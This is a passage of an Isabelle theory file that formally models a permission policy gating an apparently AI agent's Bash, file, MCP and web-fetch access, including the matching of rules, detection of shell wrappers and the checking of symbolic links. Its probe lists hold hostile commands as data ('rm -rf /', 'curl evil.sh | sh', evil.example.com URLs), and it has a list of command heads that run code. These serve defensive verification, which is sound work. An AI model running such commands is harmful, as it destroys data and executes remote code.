(* ===== verification/PermissionPolicy.thy ===== *)
theory PermissionPolicy
  imports PermissionRules Paths
begin

section \<open>The permission policy\<close>

text \<open>
  \<open>permission/policy.rs\<close>: compiled rules, the deny-over-ask-over-allow evaluation of one access,
  the conjunctive allow walk over a Bash script, the escalation-only gate that checks every segment
  of a script (also behind wrappers, \<open>sh -c\<close> and \<open>env -S\<close>), and the re-check of the target of a
  symbolic link.

  What the policy calls and does not contain is the record \<open>host\<close>: the \<open>glob\<close> crate, the
  \<open>tree-sitter-bash\<close> parser, the \<open>url\<close> crate, Unicode lower-casing and the file system.
\<close>

datatype fs_meta = MetaSymlink | MetaOther | MetaNotFound | MetaError

record 'g host =
  glob_new :: "string \<Rightarrow> 'g option"
  glob_matches_with :: "'g \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool"
  parse_shell :: shell_parser
  url_host :: "string \<Rightarrow> string option"
  unicode_lower :: "string \<Rightarrow> string"
  fs_canonicalize :: "string \<Rightarrow> string option"
  fs_symlink_metadata :: "string \<Rightarrow> fs_meta"
  fs_read_link :: "string \<Rightarrow> string option"

subsection \<open>Gate decisions\<close>

datatype gate_decision = GReject string | GAskRuleMatch | GAskFailClosed

fun into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision (GReject r) = DReject r"
| "into_decision GAskRuleMatch = DAsk"
| "into_decision GAskFailClosed = DAsk"

fun gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank (GReject _) = 3"
| "gate_rank GAskRuleMatch = 2"
| "gate_rank GAskFailClosed = 1"

definition gate_is_ask :: "gate_decision \<Rightarrow> bool" where
  "gate_is_ask g \<longleftrightarrow> g = GAskRuleMatch \<or> g = GAskFailClosed"

text \<open>Both combinators keep the left operand unless the right one outranks it.\<close>

definition combine_ranked :: "('a \<Rightarrow> nat) \<Rightarrow> 'a option \<Rightarrow> 'a option \<Rightarrow> 'a option" where
  "combine_ranked rank a b =
     (case (a, b) of
        (None, x) \<Rightarrow> x
      | (x, None) \<Rightarrow> x
      | (Some x, Some y) \<Rightarrow> Some (if rank x \<ge> rank y then x else y))"

definition combine_gate_decisions ::
    "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "combine_gate_decisions = combine_ranked gate_rank"

fun decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank (DReject _) = 3"
| "decision_rank (DPolicyDeny _) = 3"
| "decision_rank DAsk = 2"
| "decision_rank DAllow = 1"
| "decision_rank (DFollowupMessage _) = 0"
| "decision_rank DCancelled = 0"

definition combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions = combine_ranked decision_rank"

subsection \<open>Matching one pattern\<close>

definition glob_matches :: "'g host \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches H text path_ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> glob_matches_with H p path_ctx text)"

text \<open>\<open>web_fetch/domain.rs\<close>\<close>

definition normalize_domain :: "'g host \<Rightarrow> string \<Rightarrow> string" where
  "normalize_domain H raw =
     (let s = trim_end_char CHR ''.'' (trim_end_char CHR ''/'' (trim raw));
          s' = (case strip_prefix s ''www.'' of Some t \<Rightarrow> t | None \<Rightarrow> s)
      in unicode_lower H s')"

definition domain_matches :: "'g host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches H pattern url =
     (case url_host H url of
        None \<Rightarrow> False
      | Some h \<Rightarrow>
          (let domain = normalize_domain H h; p = normalize_domain H pattern
           in domain = p \<or> ends_with domain (''.'' @ p)))"

definition path_match_string :: "string \<Rightarrow> string" where
  "path_match_string s = map (\<lambda>c. if c = bslash then CHR ''/'' else c) s"

definition cwd_join :: "string \<Rightarrow> string option \<Rightarrow> string" where
  "cwd_join path cwd =
     (case cwd of None \<Rightarrow> path | Some d \<Rightarrow> if is_absolute path then path else path_join d path)"

definition absolute_normalized_path :: "string \<Rightarrow> string option \<Rightarrow> string" where
  "absolute_normalized_path path cwd =
     (if is_tilde_path path then path else normalize_lexically (cwd_join path cwd))"

definition raw_absolute_tool_path :: "string \<Rightarrow> string option \<Rightarrow> string option" where
  "raw_absolute_tool_path path cwd =
     (if is_tilde_path path then None
      else let joined = cwd_join path cwd in
        if is_absolute joined then Some (path_match_string joined) else None)"

definition path_match_forms :: "string \<Rightarrow> string option \<Rightarrow> string list" where
  "path_match_forms path cwd =
     (let ab = absolute_normalized_path path cwd in
      path_match_string ab #
      (case cwd of
         Some d \<Rightarrow>
           (case path_strip_prefix ab (normalize_lexically d) of
              None \<Rightarrow> []
            | Some rel \<Rightarrow>
                (let rel_s = path_match_string rel in
                 if rel_s = [] \<or> rel_s = ''.'' then [''.'', ''./'']
                 else [''./'' @ rel_s, rel_s]))
       | None \<Rightarrow>
           if \<not> is_absolute ab \<and> \<not> path_has_parent_dir ab \<and> \<not> is_tilde_path ab then
             (let lex_s = path_match_string ab in
              if lex_s \<noteq> ''.'' \<and> lex_s \<noteq> [] then [''./'' @ lex_s] else [])
           else []))"

definition path_context_matches :: "'g host \<Rightarrow> string \<Rightarrow> 'g option \<Rightarrow> string option \<Rightarrow> bool" where
  "path_context_matches H path matcher cwd \<longleftrightarrow>
     list_ex (\<lambda>text. glob_matches H text True matcher) (path_match_forms path cwd)"

text \<open>\<open>pattern_matches\<close>, on the rule's pattern that is neither absent nor \<open>*\<close>.\<close>

definition specific_matches ::
    "'g host \<Rightarrow> access_kind \<Rightarrow> string \<Rightarrow> pattern_mode \<Rightarrow> 'g option \<Rightarrow> string option \<Rightarrow> bool" where
  "specific_matches H access pattern mode matcher cwd =
     (case access of
        BashAccess cmd0 \<Rightarrow>
          (let cmd = trim_start cmd0
           in starts_with cmd pattern \<or> glob_matches H cmd False matcher)
      | EditAccess path \<Rightarrow> path_context_matches H path matcher cwd
      | ReadAccess path \<Rightarrow> (case path of None \<Rightarrow> False | Some p \<Rightarrow> path_context_matches H p matcher cwd)
      | GrepAccess path _ \<Rightarrow> (case path of None \<Rightarrow> False | Some p \<Rightarrow> path_context_matches H p matcher cwd)
      | MCPToolAccess name _ \<Rightarrow> glob_matches H name False matcher
      | WebFetchAccess url \<Rightarrow>
          (case mode of
             DomainMode \<Rightarrow> domain_matches H pattern url
           | GlobMode \<Rightarrow> glob_matches H url False matcher)
      | WebSearchAccess q \<Rightarrow> glob_matches H q False matcher \<or> starts_with q pattern
      | AgentMessageAccess i \<Rightarrow> glob_matches H i False matcher \<or> starts_with i pattern)"

definition pattern_matches ::
    "'g host \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> string option \<Rightarrow> bool" where
  "pattern_matches H access rule matcher cwd =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> p = ''*'' \<or> specific_matches H access p (pr_mode rule) matcher cwd)"

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches a AnyTool = True"
| "tool_filter_matches a BashTool = (case a of BashAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a EditTool = (case a of EditAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a ReadTool =
     (case a of ReadAccess _ \<Rightarrow> True | GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a GrepTool = (case a of GrepAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a McpTool = (case a of MCPToolAccess _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a WebFetchTool = (case a of WebFetchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a WebSearchTool = (case a of WebSearchAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a AgentMessageTool = (case a of AgentMessageAccess _ \<Rightarrow> True | _ \<Rightarrow> False)"

subsection \<open>Bash allow patterns\<close>

definition matches_command_prefix :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matches_command_prefix cmd pattern \<longleftrightarrow>
     cmd = pattern
     \<or> starts_with cmd pattern \<and> length pattern < length cmd \<and> cmd ! length pattern = CHR '' ''"

definition bash_command_matches_pattern :: "'g host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_command_matches_pattern H command0 pattern0 precompiled =
     (let command = trim_start command0; pattern = trim pattern0 in
      if pattern = [] then False
      else if pattern = ''*'' then True
      else if matches_command_prefix command pattern then True
      else (case precompiled of
              Some p \<Rightarrow> glob_matches H command False (Some p)
            | None \<Rightarrow>
                (case glob_new H pattern of
                   Some p \<Rightarrow> glob_matches H command False (Some p)
                 | None \<Rightarrow> False)))"

definition bash_allow_pattern_matches :: "'g host \<Rightarrow> string \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches H cmd rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> p = ''*'' \<or> bash_command_matches_pattern H cmd p matcher)"

definition bash_pattern_matches_command :: "'g host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "bash_pattern_matches_command H pattern command = bash_command_matches_pattern H command pattern None"

definition has_whitespace :: "string \<Rightarrow> bool" where
  "has_whitespace s \<longleftrightarrow> list_ex (\<lambda>i. ws_prefix (drop i s) \<noteq> None) [0..<length s]"

definition bash_pattern_is_broad :: "string \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern0 =
     (let pattern = trim pattern0 in
      if pattern = [] then False else pattern = ''*'' \<or> \<not> has_whitespace pattern)"

subsection \<open>Blanket rules\<close>

definition bash_probe_cmds :: "string list" where
  "bash_probe_cmds = [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition bash_probes :: "access_kind list" where
  "bash_probes = map BashAccess bash_probe_cmds"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPToolAccess n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map WebFetchAccess
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes = map AgentMessageAccess [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition compile_matcher :: "'g host \<Rightarrow> permission_rule \<Rightarrow> 'g option" where
  "compile_matcher H rule =
     (case pr_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else glob_new H p)"

definition rule_is_catchall :: "'g host \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall H rule =
     (let opens_all = (\<lambda>probes. list_all (\<lambda>a. pattern_matches H a rule (compile_matcher H rule) None) probes)
      in case pr_tool rule of
           BashTool \<Rightarrow> opens_all bash_probes
         | McpTool \<Rightarrow> opens_all mcp_probes
         | WebFetchTool \<Rightarrow> opens_all webfetch_probes
         | AgentMessageTool \<Rightarrow> opens_all agent_message_probes
         | AnyTool \<Rightarrow>
             opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
             \<or> opens_all agent_message_probes
         | _ \<Rightarrow> False)"

definition bash_glob_is_catchall :: "'g host \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall H pattern \<longleftrightarrow>
     list_all (\<lambda>a. case a of BashAccess cmd \<Rightarrow> bash_pattern_matches_command H pattern cmd | _ \<Rightarrow> False)
       bash_probes"

subsection \<open>Heads that run what they are handed\<close>

definition EXEC_VEHICLE_HEADS :: "string list" where
  "EXEC_VEHICLE_HEADS =
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'',
      ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'', ''gawk'', ''mawk'', ''nawk'', ''nodejs'',
      ''luajit'', ''phpdbg'', ''php-cgi'', ''pythonw'',
      ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'',
      ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'', ''flock'',
      ''chroot'', ''nsenter'', ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "string list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "string list \<Rightarrow> string option" where
  "normalized_command_head words =
     (case head_base words of
        None \<Rightarrow> None
      | Some b \<Rightarrow>
          (let head = to_ascii_lowercase b
           in Some (case strip_suffix head ''.exe'' of Some h \<Rightarrow> h | None \<Rightarrow> head)))"

definition head_is_exec_vehicle :: "string list \<Rightarrow> bool" where
  "head_is_exec_vehicle words =
     (case normalized_command_head words of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set EXEC_VEHICLE_HEADS
          \<or> list_ex (\<lambda>family.
               case strip_prefix head family of
                 None \<Rightarrow> False
               | Some rest \<Rightarrow>
                   (let core = (case strip_suffix rest ''t'' of Some c \<Rightarrow> c | None \<Rightarrow> rest)
                    in list_all (\<lambda>c. is_ascii_digit c \<or> c = CHR ''.'') core))
             EXEC_VEHICLE_HEAD_FAMILIES)"

subsection \<open>Inline scripts of \<open>sh -c\<close>\<close>

datatype shell_word = LiteralWord string | UntrustedWord

datatype inline_script = NotInline | InlineLiteral nat | InlineUntrusted | InlineUnrecognized

definition is_potential_inline :: "inline_script \<Rightarrow> bool" where
  "is_potential_inline s = (case s of InlineLiteral _ \<Rightarrow> True | InlineUntrusted \<Rightarrow> True | _ \<Rightarrow> False)"

text \<open>One turn of the option loop: return, or move one or two words on with the two flags.\<close>

datatype dash_iter = DashReturn inline_script | DashNext bool bool | DashNext2 bool bool

definition ambiguous_inline :: "bool \<Rightarrow> inline_script" where
  "ambiguous_inline saw_c = (if saw_c then InlineUntrusted else InlineUnrecognized)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_script" where
  "finish_literal dynamic_head i = (if dynamic_head then InlineUntrusted else InlineLiteral i)"

definition no_c_result :: "bool \<Rightarrow> inline_script" where
  "no_c_result unrec = (if unrec then InlineUnrecognized else NotInline)"

definition dash_long_step :: "string \<Rightarrow> shell_word list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> dash_iter" where
  "dash_long_step w rest saw_c unrec =
     (if w = ''--init-file'' \<or> w = ''--rcfile'' then
        (case rest of
           LiteralWord _ # _ \<Rightarrow> DashNext2 saw_c unrec
         | _ \<Rightarrow> DashReturn (ambiguous_inline saw_c))
      else if w = ''--noprofile'' \<or> w = ''--norc'' \<or> w = ''--posix'' then DashNext saw_c unrec
      else if saw_c then DashReturn InlineUntrusted
      else DashNext saw_c True)"

definition dash_short_step :: "string \<Rightarrow> shell_word list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> dash_iter" where
  "dash_short_step w rest saw_c unrec =
     (if w = ''-o'' \<or> w = ''+o'' \<or> w = ''-O'' \<or> w = ''+O'' then
        (case rest of
           LiteralWord v # _ \<Rightarrow>
             if \<not> starts_with v ''-'' then DashNext2 saw_c unrec
             else DashReturn (ambiguous_inline saw_c)
         | _ \<Rightarrow> DashReturn (ambiguous_inline saw_c))
      else if starts_with w ''-O'' \<and> length w > 2 then DashNext saw_c unrec
      else if (starts_with w ''+O'' \<or> starts_with w ''+o'') \<and> length w > 2 then DashNext saw_c unrec
      else if starts_with w ''-o'' \<and> length w > 2 then DashReturn (ambiguous_inline saw_c)
      else if starts_with w ''+'' then DashNext saw_c unrec
      else (let flags = drop 1 w in
            if CHR ''o'' \<in> set flags \<or> CHR ''O'' \<in> set flags
            then DashReturn (ambiguous_inline saw_c)
            else DashNext (saw_c \<or> CHR ''c'' \<in> set flags) unrec))"

definition dash_step :: "bool \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> shell_word list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> dash_iter" where
  "dash_step dyn i w rest saw_c unrec =
     (if w = ''--'' \<or> w = ''-'' then
        (if \<not> saw_c then DashReturn (no_c_result unrec)
         else (case rest of
                 LiteralWord _ # _ \<Rightarrow> DashReturn (finish_literal dyn (i + 1))
               | _ \<Rightarrow> DashReturn InlineUntrusted))
      else if \<not> starts_with w ''-'' \<and> \<not> starts_with w ''+'' then
        DashReturn (if saw_c then finish_literal dyn i else no_c_result unrec)
      else if starts_with w ''--'' then dash_long_step w rest saw_c unrec
      else dash_short_step w rest saw_c unrec)"

fun dash_scan :: "bool \<Rightarrow> nat \<Rightarrow> shell_word list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> inline_script" where
  "dash_scan dyn i [] saw_c unrec = (if saw_c then InlineUntrusted else no_c_result unrec)"
| "dash_scan dyn i (UntrustedWord # rest) saw_c unrec = ambiguous_inline saw_c"
| "dash_scan dyn i (LiteralWord w # rest) saw_c unrec =
     (case dash_step dyn i w rest saw_c unrec of
        DashReturn r \<Rightarrow> r
      | DashNext s u \<Rightarrow> dash_scan dyn (i + 1) rest s u
      | DashNext2 s u \<Rightarrow> dash_scan dyn (i + 2) (drop 1 rest) s u)"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_script" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> NotInline
      | LiteralWord program # rest \<Rightarrow>
          if base_name program \<in> {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''}
          then dash_scan False 1 rest False False else NotInline
      | UntrustedWord # rest \<Rightarrow> dash_scan True 1 rest False False)"

subsection \<open>The compiled policy\<close>

record 'g compiled_policy =
  cp_config :: permission_config
  cp_matchers :: "'g option list"
  cp_has_file_restrictions :: bool
  cp_has_bash_command_restrictions :: bool
  cp_has_bash_allow_rules :: bool
  cp_catchall :: "bool list"

definition restricts :: "permission_rule \<Rightarrow> bool" where
  "restricts r \<longleftrightarrow> pr_action r = DenyRule \<or> pr_action r = AskRule"

definition compile_policy :: "'g host \<Rightarrow> permission_config \<Rightarrow> 'g compiled_policy" where
  "compile_policy H config =
     (let rules = pcf_rules config in
      \<lparr>cp_config = config,
       cp_matchers = map (compile_matcher H) rules,
       cp_has_file_restrictions =
         list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {ReadTool, EditTool, AnyTool}) rules,
       cp_has_bash_command_restrictions =
         list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {BashTool, AnyTool}) rules,
       cp_has_bash_allow_rules =
         list_ex (\<lambda>r. pr_action r = AllowRule \<and> pr_tool r \<in> {BashTool, AnyTool}) rules,
       cp_catchall = map (rule_is_catchall H) rules\<rparr>)"

datatype allow_scope = AnyScope | NarrowOnly

definition bash_words_allowed :: "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_scope \<Rightarrow> string list \<Rightarrow> bool" where
  "bash_words_allowed H pol scope words =
     (if words = [] then False
      else if scope = NarrowOnly \<and> head_is_exec_vehicle words then False
      else let cmd = join_str '' '' words in
        list_ex (\<lambda>((rule, matcher), catchall).
            \<not> (scope = NarrowOnly \<and> catchall) \<and> pr_action rule = AllowRule
            \<and> pr_tool rule \<in> {BashTool, AnyTool} \<and> bash_allow_pattern_matches H cmd rule matcher)
          (zip (zip (pcf_rules (cp_config pol)) (cp_matchers pol)) (cp_catchall pol)))"

text \<open>
  One segment of the allow walk; \<open>rec\<close> is the walk at one inline level less, absent when the
  inline budget is used up.
\<close>

definition segment_allowed ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_scope \<Rightarrow> (string \<Rightarrow> bool) option \<Rightarrow> string list \<Rightarrow> bool" where
  "segment_allowed H pol scope rec words =
     (let norm = normalize_command_words words in
      if wp_exhausted norm \<or> np_ambiguous norm \<or> wp_env_options_uncertain norm
         \<or> wp_has_split_string norm then False
      else let inner = wp_words norm in
        if \<not> bash_words_allowed H pol scope inner then False
        else (case shell_dash_c_script (map LiteralWord inner) of
                InlineLiteral i \<Rightarrow> (case rec of Some f \<Rightarrow> f (inner ! i) | None \<Rightarrow> False)
              | NotInline \<Rightarrow> True
              | _ \<Rightarrow> False))"

definition chain_allowed_with ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_scope \<Rightarrow> (string \<Rightarrow> bool) option \<Rightarrow> string \<Rightarrow> bool" where
  "chain_allowed_with H pol scope rec cmd =
     (case all_commands_from_script (parse_shell H) cmd of
        None \<Rightarrow> False
      | Some segments \<Rightarrow>
          segments \<noteq> [] \<and> list_all (\<lambda>c. segment_allowed H pol scope rec (pc_words c)) segments)"

primrec bash_chain_fully_allowed ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> allow_scope \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> bool" where
  "bash_chain_fully_allowed H pol scope 0 = chain_allowed_with H pol scope None"
| "bash_chain_fully_allowed H pol scope (Suc n) =
     chain_allowed_with H pol scope (Some (bash_chain_fully_allowed H pol scope n))"

subsection \<open>Evaluating one access\<close>

fun tool_label :: "tool_filter \<Rightarrow> string" where
  "tool_label AnyTool = ''any tool''"
| "tool_label BashTool = ''bash''"
| "tool_label EditTool = ''edit''"
| "tool_label ReadTool = ''read''"
| "tool_label GrepTool = ''grep''"
| "tool_label McpTool = ''mcp''"
| "tool_label WebFetchTool = ''web_fetch''"
| "tool_label WebSearchTool = ''web_search''"
| "tool_label AgentMessageTool = ''agent_message''"

definition deny_reason :: "permission_rule \<Rightarrow> string" where
  "deny_reason rule =
     (case pr_pattern rule of
        Some p \<Rightarrow>
          ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule) @ '' matching ''
          @ [CHR 0x22] @ p @ [CHR 0x22]
      | None \<Rightarrow> ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule))"

definition rule_applies ::
    "'g host \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> permission_rule \<times> 'g option \<Rightarrow> bool" where
  "rule_applies H access cwd rm \<longleftrightarrow>
     tool_filter_matches access (pr_tool (fst rm)) \<and> pattern_matches H access (fst rm) (snd rm) cwd"

text \<open>The loop over the rules: the first matching deny leaves it, the other matches set a flag.\<close>

fun scan_rules ::
    "'g host \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> (permission_rule \<times> 'g option) list \<Rightarrow> bool \<Rightarrow> bool
      \<Rightarrow> decision + bool \<times> bool" where
  "scan_rules H access cwd [] ask allow = Inr (ask, allow)"
| "scan_rules H access cwd (rm # rms) ask allow =
     (if \<not> rule_applies H access cwd rm then scan_rules H access cwd rms ask allow
      else (case pr_action (fst rm) of
              DenyRule \<Rightarrow> Inl (DReject (deny_reason (fst rm)))
            | AskRule \<Rightarrow> scan_rules H access cwd rms True allow
            | AllowRule \<Rightarrow> scan_rules H access cwd rms ask True))"

definition evaluate_lexical_with_cwd ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> decision option" where
  "evaluate_lexical_with_cwd H pol access cwd =
     (case scan_rules H access cwd (zip (pcf_rules (cp_config pol)) (cp_matchers pol)) False False of
        Inl d \<Rightarrow> Some d
      | Inr (ask, allow) \<Rightarrow>
          if ask then Some DAsk
          else (case access of
                  BashAccess cmd \<Rightarrow>
                    if cp_has_bash_allow_rules pol
                       \<and> bash_chain_fully_allowed H pol AnyScope MAX_INLINE_SHELL_DEPTH cmd
                    then Some DAllow else None
                | _ \<Rightarrow> if allow then Some DAllow else None))"

definition narrow_allow_authorizes :: "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes H pol access =
     (case access of
        BashAccess cmd \<Rightarrow>
          cp_has_bash_allow_rules pol
          \<and> bash_chain_fully_allowed H pol NarrowOnly MAX_INLINE_SHELL_DEPTH cmd
      | _ \<Rightarrow> False)"

definition native_path_restrictions_apply :: "'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply pol access \<longleftrightarrow>
     list_ex (\<lambda>r. restricts r \<and> tool_filter_matches access (pr_tool r)) (pcf_rules (cp_config pol))"

subsection \<open>Following symbolic links\<close>

definition MAX_SYMLINK_DEPTH :: nat where "MAX_SYMLINK_DEPTH = 40"

text \<open>\<open>walk(path, depth)\<close>; the counter is the number of calls left, \<open>41 - depth\<close>.\<close>

primrec walk_symlinks :: "'g host \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string option" where
  "walk_symlinks H 0 path = None"
| "walk_symlinks H (Suc n) path =
     (case fs_canonicalize H path of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          (case (parent path, file_name path) of
             (Some up, Some name) \<Rightarrow>
               (case walk_symlinks H n up of
                  None \<Rightarrow> None
                | Some resolved_parent \<Rightarrow>
                    (let candidate = path_join resolved_parent name in
                     case fs_symlink_metadata H candidate of
                       MetaError \<Rightarrow> None
                     | MetaSymlink \<Rightarrow>
                         (case fs_read_link H candidate of
                            None \<Rightarrow> None
                          | Some target \<Rightarrow>
                              walk_symlinks H n
                                (if is_absolute target then target
                                 else path_join resolved_parent target))
                     | _ \<Rightarrow> Some candidate))
           | _ \<Rightarrow> None))"

definition resolve_following_symlinks :: "'g host \<Rightarrow> string \<Rightarrow> string option" where
  "resolve_following_symlinks H path = walk_symlinks H (MAX_SYMLINK_DEPTH + 1) path"

definition resolve_symlink_target :: "'g host \<Rightarrow> string \<Rightarrow> string option" where
  "resolve_symlink_target H ab =
     (if \<not> is_absolute ab then None
      else map_option (\<lambda>r. path_match_string (normalize_lexically r)) (resolve_following_symlinks H ab))"

fun any_prefix_symlink :: "'g host \<Rightarrow> string \<Rightarrow> path_comp list \<Rightarrow> bool" where
  "any_prefix_symlink H base [] = False"
| "any_prefix_symlink H base (c # cs) =
     (let p = path_join base (comp_str c)
      in fs_symlink_metadata H p = MetaSymlink \<or> any_prefix_symlink H p cs)"

definition path_has_symlink :: "'g host \<Rightarrow> string \<Rightarrow> bool" where
  "path_has_symlink H ab \<longleftrightarrow> is_absolute ab \<and> any_prefix_symlink H [] (components ab)"

datatype symlink_follow = FollowNone | FollowTarget string | FollowUnresolvable

definition follow_absolute_symlink :: "'g host \<Rightarrow> string \<Rightarrow> string \<Rightarrow> symlink_follow" where
  "follow_absolute_symlink H raw_absolute lexical_absolute =
     (case resolve_symlink_target H raw_absolute of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical_absolute then FollowTarget resolved else FollowNone
      | None \<Rightarrow> if path_has_symlink H raw_absolute then FollowUnresolvable else FollowNone)"

definition native_file_path :: "access_kind \<Rightarrow> string option" where
  "native_file_path access =
     (case access of
        EditAccess p \<Rightarrow> Some p
      | ReadAccess p \<Rightarrow> p
      | GrepAccess p _ \<Rightarrow> p
      | _ \<Rightarrow> None)"

text \<open>The last arm is unreachable in the source: the caller filters by \<open>native_file_path\<close>.\<close>

definition access_with_path :: "access_kind \<Rightarrow> string \<Rightarrow> access_kind" where
  "access_with_path access path =
     (case access of
        EditAccess _ \<Rightarrow> EditAccess path
      | ReadAccess _ \<Rightarrow> ReadAccess (Some path)
      | GrepAccess _ g \<Rightarrow> GrepAccess (Some path) g
      | a \<Rightarrow> a)"

definition escalating :: "decision option \<Rightarrow> decision option" where
  "escalating d = (case d of Some (DReject r) \<Rightarrow> Some (DReject r) | Some DAsk \<Rightarrow> Some DAsk | _ \<Rightarrow> None)"

definition evaluate_with_cwd_details ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> decision option \<times> bool" where
  "evaluate_with_cwd_details H pol access cwd =
     (let lexical = evaluate_lexical_with_cwd H pol access cwd in
      case native_file_path access of
        None \<Rightarrow> (lexical, False)
      | Some path \<Rightarrow>
          (case raw_absolute_tool_path path cwd of
             None \<Rightarrow> (lexical, False)
           | Some raw_absolute \<Rightarrow>
               (let lexical_abs = path_match_string (absolute_normalized_path path cwd) in
                case follow_absolute_symlink H raw_absolute lexical_abs of
                  FollowTarget resolved \<Rightarrow>
                    (combine_decisions lexical
                       (escalating (evaluate_lexical_with_cwd H pol (access_with_path access resolved) cwd)),
                     False)
                | FollowUnresolvable \<Rightarrow>
                    if native_path_restrictions_apply pol access
                    then (combine_decisions lexical (Some DAsk), True) else (lexical, False)
                | FollowNone \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> decision option" where
  "evaluate_with_cwd H pol access cwd = fst (evaluate_with_cwd_details H pol access cwd)"

definition evaluate :: "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate H pol access = evaluate_with_cwd H pol access None"

subsection \<open>The Bash command gate\<close>

definition escalate_segment :: "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> string list \<Rightarrow> gate_decision option" where
  "escalate_segment H pol words =
     (case evaluate H pol (BashAccess (join_str '' '' words)) of
        Some (DReject r) \<Rightarrow> Some (GReject r)
      | Some DAsk \<Rightarrow> Some GAskRuleMatch
      | _ \<Rightarrow> None)"

definition fail_closed_if :: "bool \<Rightarrow> gate_decision option" where
  "fail_closed_if b = (if b then Some GAskFailClosed else None)"

text \<open>The decision about an inline script, \<open>rec\<close> as in the allow walk.\<close>

definition inline_gate ::
    "(string \<Rightarrow> gate_decision option) option \<Rightarrow> string list \<Rightarrow> gate_decision option" where
  "inline_gate rec inner =
     (case shell_dash_c_script (map LiteralWord inner) of
